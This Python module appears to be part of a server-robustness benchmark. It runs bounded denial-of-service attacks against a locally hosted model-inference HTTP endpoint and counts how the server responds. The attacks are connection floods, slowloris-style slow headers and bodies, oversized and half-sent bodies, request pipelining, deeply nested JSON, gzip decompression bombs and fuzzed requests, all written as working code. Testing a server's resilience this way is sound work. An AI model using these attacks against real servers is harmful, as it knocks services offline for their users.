"""Attacks on the HTTP port. Each is bounded in number and time, and says what the server did."""

import contextlib
import random
import select
import socket
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Sequence

from bench.attacks.frames import ready
from bench.attacks.honest import INPUT, MODEL, SIDE
from bench.attacks.target import Target
from fuzz.mutation import TOKENS, mutated

MIB = 1 << 20
_PATH = f"/v2/models/{MODEL}/infer"


def idle(target: Target) -> Counter[str]:
    """1,000 connections that ask nothing, for three seconds."""
    return _held(_opened(target, 1000, b""), 3.0)


def headers_byte_by_byte(target: Target) -> Counter[str]:
    """300 requests whose headers come a byte at a time, for twelve seconds."""
    opened = _opened(target, 300, b"POST /v2/models/")
    for _ in range(48):
        for connection in opened:
            with contextlib.suppress(OSError):
                connection.send(b"x")
        time.sleep(0.25)
    return _held(opened, 0.1)


def half_bodies(target: Target) -> Counter[str]:
    """100 bodies of 1 GiB of which 8 MiB come, held for three seconds."""
    return _bodies(target, 100, 1 << 30, lambda: iter((bytes(MIB),) * 8), holds_s=3.0)


def large_bodies(target: Target) -> Counter[str]:
    """Two bodies of 512 MiB."""
    return _bodies(target, 2, 512 * MIB, lambda: iter((b"[" * MIB,) * 512), holds_s=5.0)


def slow_bodies(target: Target) -> Counter[str]:
    """300 bodies of 60,000 bytes of which half come, held for eight seconds."""
    return _held(_opened(target, 300, _head(60_000) + b"[" * 30_000), 8.0)


def slow_large_bodies(target: Target) -> Counter[str]:
    """Eight bodies of 63 MiB of which 62 come, held for eight seconds."""
    return _bodies(target, 8, 63 * MIB, lambda: iter((bytes(MIB),) * 62), holds_s=8.0)


def pipelined(target: Target) -> Counter[str]:
    """8,000 requests at once on each of 20 connections, and nothing is read for five seconds."""
    return _held(
        _opened(target, 20, f"GET /v2/models/{MODEL} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 8000), 5.0
    )


def deep_json(target: Target) -> Counter[str]:
    """Ten bodies of 8 MiB that open brackets."""
    return _bodies(target, 10, 8 * MIB, lambda: iter((b'{"a":[' + b"[" * (MIB - 6), *(b"[" * MIB,) * 7)), holds_s=5.0)


def gzip_bombs(target: Target) -> Counter[str]:
    """Three bodies of 0.5 MiB that become 512 MiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(MIB)) for _ in range(512)) + packer.flush()
    return _bodies(target, 3, len(bomb), lambda: iter((bomb,)), holds_s=8.0, more=b"Content-Encoding: gzip\r\n")


def spoiled(target: Target) -> Counter[str]:
    """1,000 requests with seeded faults in headers and body."""
    pixels = ",".join(["7"] * SIDE * SIDE)
    body = f'{{"inputs":[{{"name":"{INPUT}","datatype":"UINT8","shape":[1,{SIDE},{SIDE},1],"data":[{pixels}]}}]}}'
    good = _head(len(body)) + body.encode()
    seen: Counter[str] = Counter()
    for number in range(1000):
        if time.monotonic() > target.until:
            break
        asked = mutated(good, random.Random(number), tokens=TOKENS, most=6)
        with contextlib.suppress(OSError), _connection(target) as connection:
            connection.settimeout(0.5)
            connection.sendall(asked)
            connection.shutdown(socket.SHUT_WR)
            said = _first(connection)
            seen[_status(said) if said else "unanswered"] += 1
    return seen


def _bodies(
    target: Target, count: int, size: int, pieces: Callable[[], Iterator[bytes]], *, holds_s: float, more: bytes = b""
) -> Counter[str]:
    """So many requests at once, of announced sizes; each gets its pieces in turn as the server takes them."""
    opened = _opened(target, count, _head(size, more))
    left = {connection: (pieces(), memoryview(b"")) for connection in opened}
    seen: Counter[str] = Counter()
    ends = min(target.until, time.monotonic() + 20.0)
    while left and time.monotonic() < ends:
        readable, writable, _ = select.select(list(left), list(left), [], 0.5)
        for connection in readable:
            seen[_status(_first(connection))] += 1
            left.pop(connection)
        for connection in writable:
            if connection in left and (rest := _sent_on(connection, *left[connection])) is None:
                left.pop(connection)
            elif connection in left and rest is not None:
                left[connection] = rest
    silent = [connection for connection in opened if connection.fileno() >= 0]
    return seen + _held(silent, holds_s)


def _sent_on(
    connection: socket.socket, pieces: Iterator[bytes], rest: memoryview
) -> tuple[Iterator[bytes], memoryview] | None:
    """Send what the socket takes; None once all is sent, or the server has closed."""
    if not rest:
        following = next(pieces, None)
        if following is None:
            return None
        rest = memoryview(following)
    try:
        return pieces, rest[connection.send(rest, socket.MSG_DONTWAIT) :]
    except BlockingIOError:
        return pieces, rest
    except OSError:
        return None


def _held(opened: Sequence[socket.socket], seconds: float) -> Counter[str]:
    """Hold connections; what came on each until then."""
    seen: Counter[str] = Counter()
    time.sleep(seconds)
    for connection in opened:
        seen[_status(_first(connection)) if ready(connection)[0] else "held"] += 1
        connection.close()
    return seen


def _first(connection: socket.socket) -> bytes:
    """What the server says first; empty where it closed or says nothing."""
    try:
        said = connection.recv(64)
    except OSError:
        said = b""
    connection.close()
    return said


def _status(said: bytes) -> str:
    return f"HTTP {said[9:12].decode(errors='replace')}" if said.startswith(b"HTTP/1.1 ") else "closed"


def _head(size: int, more: bytes = b"") -> bytes:
    return (
        f"POST {_PATH} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n".encode()
        + more
        + f"Content-Length: {size}\r\n\r\n".encode()
    )


def _connection(target: Target) -> socket.socket:
    return socket.create_connection(("127.0.0.1", target.http), timeout=10)


def _opened(target: Target, count: int, begin: bytes) -> list[socket.socket]:
    opened = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            connection = _connection(target)
            opened.append(connection)
            connection.settimeout(1.0)  # a server that reads no further takes no more
            connection.sendall(begin)
    return opened
